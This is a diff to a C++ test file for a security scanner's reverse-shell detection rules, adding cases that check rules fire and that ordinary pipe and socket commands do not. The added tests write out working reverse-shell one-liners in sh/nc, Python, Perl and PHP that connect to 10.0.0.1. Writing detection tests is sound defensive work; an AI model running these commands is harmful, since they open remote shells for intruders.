@@ -296,6 +296,18 @@ TEST_CASE("default rules: reverse shells", "[default_rules][scanner]") {
           Names{"reverse_shell_dev_tcp"});
     CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/80; sh <&196 >&196 2>&196"})) ==
           Names{"reverse_shell_dev_tcp"});
+    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"})) ==
+          Names{"reverse_shell_fifo"});
+    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-c",
+                                                 "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
+                                                 "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")"})) ==
+          Names{"reverse_shell_interpreter"});
+    CHECK(fired(exec_scene("/usr/bin/perl", {"perl", "-e",
+                                              "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+                                              "connect(S,sockaddr_in(4242,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");"
+                                              "exec(\"/bin/sh -i\");"})) == Names{"reverse_shell_interpreter"});
+    CHECK(fired(exec_scene("/usr/bin/php", {"php", "-r", "$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");"})) ==
+          Names{"reverse_shell_interpreter"});
     // a shell started by netcat, however the option was spelled
     Scene shell = exec_scene("/bin/sh", {"sh"});
     shell.parent = {4300, 1, "nc", "/usr/bin/nc", {"nc", "1.2.3.4", "4444", "-e/bin/sh"}};
@@ -316,6 +328,11 @@ TEST_CASE("default rules: reverse-shell near misses", "[default_rules][scanner][
     CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "echo > /dev/tcp/db/5432 && echo up"})).empty());
     CHECK(fired(exec_scene("/bin/bash", {"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/6379 && echo PING >&3 && "
                                                        "head -1 <&3 | grep PONG"})).empty());
+    // pipes and sockets in ordinary work
+    CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "mkfifo /tmp/progress && tar czf - /data > /tmp/progress"})).empty());
+    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-c", "import socket; print(socket.gethostname())"})).empty());
+    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "-m", "http.server", "8000"})).empty());
+    CHECK(fired(exec_scene("/usr/bin/python3", {"python3", "/app/manage.py", "runserver"})).empty());
     // a shell whose parent is an ordinary shell, and a shell under a service
     CHECK(fired(exec_scene("/bin/sh", {"sh", "-c", "date"})).empty());
     Scene under_ssh = exec_scene("/bin/bash", {"bash"});
